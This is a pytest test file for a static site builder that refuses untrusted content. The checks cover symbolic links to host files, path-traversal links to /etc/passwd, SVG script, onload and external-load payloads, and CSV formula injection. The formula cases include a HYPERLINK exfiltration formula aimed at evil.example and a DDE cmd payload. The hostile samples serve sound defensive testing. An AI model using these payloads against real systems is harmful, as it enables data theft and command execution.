"""Files of the content folder are untrusted input: links out of the
folder, files of other types, too large, or SVG with script stop the build
naming the file; what is accepted is published byte for byte."""

import io
import json
import logging
import os
import subprocess
import sys
import zipfile

import pytest
from lxml import etree

from site_build import BuildFailed
from test_meetings import BASE

from conftest import ROOT

PNG = b"\x89PNG\r\n\x1a\n" + bytes(24)
CLEAN_SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
             b'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
             b'<defs><linearGradient id="g"/></defs><rect width="10" height="10" '
             b'fill="url(#g)"/><use xlink:href="#g"/>'
             b'<image href="data:image/png;base64,iVBORw0KGgo="/></svg>\n')
TYPES = (".doc, .docx, .gif, .jpeg, .jpg, .odp, .ods, .odt, .pdf, .png, .ppt, .pptx, .svg, "
         ".webp, .xls, .xlsx")
LINK_REFUSED = ("a symbolic link is never read or published, as it may lead anywhere on the "
                "machine; replace it with the file or folder itself")
SVG_REFUSED = ("images/kaavio.svg: the SVG image contains {found}, which could run a program on "
               "the site or load something from elsewhere; save the image again without it, or as PNG")


def office_document():
    """A .docx as Word saves one: a ZIP archive."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return data.getvalue()


def errors(caplog):
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]


def refused(build_from, caplog, files):
    caplog.set_level(logging.WARNING)
    with pytest.raises(BuildFailed):
        build_from({**BASE, **files})
    return errors(caplog)


@pytest.fixture
def secret(tmp_path):
    """A file of the building machine outside the content folder, like /etc/shadow."""
    path = tmp_path / "host" / "shadow"
    path.parent.mkdir()
    path.write_text("root:*:19000:0:99999:7:::\n")
    return path


@pytest.mark.parametrize("link", ["images/kaavio.png", "news/salaisuus.fi.md",
                                  "data/registry.toml"])
def test_a_symbolic_link_to_a_host_file_stops_the_build(build_from, caplog, tmp_path, secret, link):
    content = tmp_path / "content"
    (content / link).parent.mkdir(parents=True)
    (content / link).symlink_to(secret)
    files = {name: text for name, text in BASE.items() if name != link}
    assert refused(build_from, caplog, files) == [f"{link}: {LINK_REFUSED}"]
    assert not (tmp_path / "output").exists()


def test_a_symbolic_link_to_a_folder_stops_the_build(build_from, caplog, tmp_path, secret):
    content = tmp_path / "content"
    content.mkdir()
    (content / "attachments").symlink_to(secret.parent, target_is_directory=True)
    assert refused(build_from, caplog, {}) == [f"attachments: {LINK_REFUSED}"]


def test_an_editors_lock_file_link_is_passed_by(build_from, tmp_path):
    """Emacs marks a file being edited with a dangling link, .#<name>."""
    content = tmp_path / "content"
    (content / "news").mkdir(parents=True)
    (content / "news" / ".#uutinen.fi.md").symlink_to("editor@host.1234")
    assert build_from(BASE).exists("/tietoa/")


@pytest.mark.parametrize(("name", "data", "message"), [
    ("attachments/ohje.html", b"<script>alert(document.cookie)</script>",
     f"attachments/ohje.html: files like ohje.html are not published; accepted types: {TYPES}"),
    ("images/skripti.js", b"alert(1)",
     f"images/skripti.js: files like skripti.js are not published; accepted types: {TYPES}"),
    ("attachments/LUEMINUT", b"text",
     f"attachments/LUEMINUT: files like LUEMINUT are not published; accepted types: {TYPES}"),
    ("images/kaavio.png", b"<html><script>alert(1)</script></html>",
     "images/kaavio.png: the file is not a PNG file, although its name ends in .png; save or "
     "export it again as PNG"),
    ("attachments/ohje.pdf", b"<!doctype html>",
     "attachments/ohje.pdf: the file is not a PDF file, although its name ends in .pdf; save or "
     "export it again as PDF"),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     SVG_REFUSED.format(found="<script>")),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
     SVG_REFUSED.format(found="onload=")),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div/>'
     b'</foreignObject></svg>', SVG_REFUSED.format(found="<foreignobject>")),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/'
     b'1999/xlink"><a x:href="javascript:alert(1)"><text>Klikkaa</text></a></svg>',
     SVG_REFUSED.format(found='href="javascript:alert(1)"')),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.'
     b'example/x.png"/></svg>', SVG_REFUSED.format(found='href="https://evil.example/x.png"')),
    ("images/kaavio.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "//evil.'
     b'example/x.css";</style></svg>', SVG_REFUSED.format(found="@import")),
    ("images/kaavio.svg", b'<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>'
     b'<svg xmlns="http://www.w3.org/2000/svg">&s;</svg>', SVG_REFUSED.format(found="<!ENTITY")),
    ("images/kaavio.svg", b"<svg><rect></svg>",
     "images/kaavio.svg: the SVG image cannot be read (mismatched tag: line 1, column 13); "
     "export it again, or save the image as PNG"),
])
def test_a_static_file_that_is_not_accepted_stops_the_build(build_from, caplog, name, data, message):
    assert refused(build_from, caplog, {name: data}) == [message]


def test_too_large_files_are_refused_with_their_size_and_the_limit(build_from, caplog):
    image = PNG + bytes(5_200_000)
    document = b"%PDF-1.7\n" + bytes(20_100_000)
    assert refused(build_from, caplog, {"images/valokuva.png": image,
                                        "attachments/raportti.pdf": document}) == [
        "attachments/raportti.pdf: the document is 20.1 MB, more than documents may be (20 MB); "
        "save it as PDF with compressed images, or split it in parts",
        "images/valokuva.png: the image is 5.2 MB, more than images may be (5 MB); save it "
        "smaller, with fewer pixels",
    ]


@pytest.mark.parametrize(("link", "message"), [
    ("[Salasanat]({static}/../../etc/passwd)",
     "news/linkki.fi.md:4: the link {static}/../../etc/passwd leads outside the content folder; "
     "link to a file in content/, for example {static}/attachments/ohje.pdf"),
    ("![Kuva]({static}../../../../etc/hostname)",
     "news/linkki.fi.md:4: the link {static}../../../../etc/hostname leads outside the content "
     "folder; link to a file in content/, for example {static}/attachments/ohje.pdf"),
    ('<a href="{filename}/../../pelicanconf.py">x</a>',
     "news/linkki.fi.md:4: the link {filename}/../../pelicanconf.py leads outside the content "
     "folder; link to a file in content/, for example {static}/attachments/ohje.pdf"),
    ("[Rekisteri]({static}/data/registry.toml)",
     "news/linkki.fi.md:4: the link {static}/data/registry.toml leads to a file that is not "
     "published; put the file in one of content/attachments, content/images and link to it there"),
])
def test_a_link_out_of_the_published_folders_is_an_error_at_its_line(build_from, caplog, link, message):
    news = f"Title: Linkki\nDate: 2020-06-01\n\n{link}\n"
    assert message in refused(build_from, caplog, {"news/linkki.fi.md": news})


def test_accepted_files_are_published_byte_for_byte(build_from):
    files = {
        "images/kaavio.png": PNG,
        "images/KUVA.JPG": b"\xff\xd8\xff\xe0" + bytes(16),
        "images/kaavio.svg": CLEAN_SVG,
        "images/liike.gif": b"GIF89a" + bytes(8),
        "images/kuva.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(8),
        "attachments/poytakirja.pdf": b"%PDF-1.7\n" + bytes(4_000_000),
        "attachments/ohje.docx": office_document(),
        "attachments/vanha.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(8),
        "news/liite.fi.md": "Title: Liite\nDate: 2020-06-01\n\n"
                            "[Pöytäkirja]({static}/attachments/poytakirja.pdf)\n",
    }
    site = build_from({**BASE, **files})
    for name, data in files.items():
        if not name.endswith(".md"):
            assert (site.path / name).read_bytes() == data, name
    assert site.html("/ajankohtaista/liite/").find("a", string="Pöytäkirja")["href"] == \
        "/attachments/poytakirja.pdf"


def test_check_names_link_and_refused_file_in_the_editors_language(tmp_path, secret):
    content = tmp_path / "content"
    for name, text in {**BASE, "attachments/ohje.html": "<script></script>"}.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text(text, encoding="utf-8")
    (content / "images").mkdir()
    (content / "images" / "kaavio.png").symlink_to(secret)
    result = subprocess.run(
        [sys.executable, "-m", "invoke", "check", "--content", str(content)], cwd=ROOT,
        capture_output=True, text=True, env={**os.environ, "EDITOR_LANG": "fi"})
    assert result.returncode == 1
    lines = [line.strip() for line in result.stdout.splitlines()]
    assert lines == [
        "Virheet (2):",
        f"attachments/ohje.html: tiedostoja kuten ohje.html ei julkaista; hyväksytyt tyypit: {TYPES}",
        "images/kaavio.png: symbolista linkkiä ei koskaan lueta eikä julkaista, koska se voi "
        "johtaa minne tahansa koneella; korvaa se itse tiedostolla tai kansiolla",
        "2 virhettä, 0 varoitusta",
    ]
    assert "root:" not in result.stdout + result.stderr


# Cells a spreadsheet would run as formulas, as a pasted e-mail may bring them.
FORMULAS = {
    "Lead": '=HYPERLINK("http://evil.example/?x="&A1;"Klikkaa")',
    "Funding": "=cmd|'/c calc'!a0",
    "Summary": "+1+1",
    "Contact": "@SUM(1+1)",
    "Partners": "-2+3",
}


def spreadsheet_cells(csv_file, workdir):
    """The cells of ``csv_file`` as LibreOffice imports it (comma, double
    quote, UTF-8): (formula or None, text) per cell, read from flat ODS.
    `invoke test` installs LibreOffice (tasks.py SYSTEM_PACKAGES)."""
    profile = workdir / "libreoffice-profile"
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "fods", "--infilter=CSV:44,34,76", "--outdir", str(workdir), str(csv_file)],
        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(workdir)})
    namespaces = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
                  "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    document = etree.parse(str(workdir / (csv_file.stem + ".fods")))
    formula = f"{{{namespaces['table']}}}formula"
    return [(cell.get(formula), "\n".join(p.xpath("string()") for p in cell.findall("text:p", namespaces)))
            for cell in document.iterfind(".//table:table-cell", namespaces)]


def test_open_data_csv_cells_never_run_as_formulas_in_a_spreadsheet(build_from, tmp_path):
    header = "".join(f"{key}: {value}\n" for key, value in FORMULAS.items())
    site = build_from({**BASE, "projects/paha.fi.md": f"Title: =1+1\nPhase: active\n{header}\nK.\n"})
    data = json.loads((site.path / "hankkeet" / "projects.json").read_text(encoding="utf-8"))
    paha = next(p for p in data["projects"] if p["name"] == "paha")
    assert (paha["title"], paha["lead"], paha["funding"], paha["summary"], paha["contact"]) == (
        "=1+1", FORMULAS["Lead"], FORMULAS["Funding"], FORMULAS["Summary"], FORMULAS["Contact"])
    assert paha["partners"] == [FORMULAS["Partners"]]  # JSON stays exact

    cells = spreadsheet_cells(site.path / "hankkeet" / "projects.csv", tmp_path)
    assert [text for formula, text in cells if formula] == []
    texts = [text for _formula, text in cells]
    for written in ["=1+1", *FORMULAS.values()]:
        assert texts.count("'" + written) == 1, written


@pytest.mark.parametrize("link", ["[Salasanat](|static|/../host/shadow)",
                                  "[Salasanat][1]\n\n[1]: {static}/../host/shadow"])
def test_a_link_in_another_form_copies_no_file_from_outside(build_from, caplog, secret, link):
    news = f"Title: Linkki\nDate: 2020-06-01\n\n{link}\n"
    assert refused(build_from, caplog, {"news/linkki.fi.md": news}) == [
        "../host/shadow: a link leads to this file, which is not published; link only to files "
        "in content/attachments, content/images"]
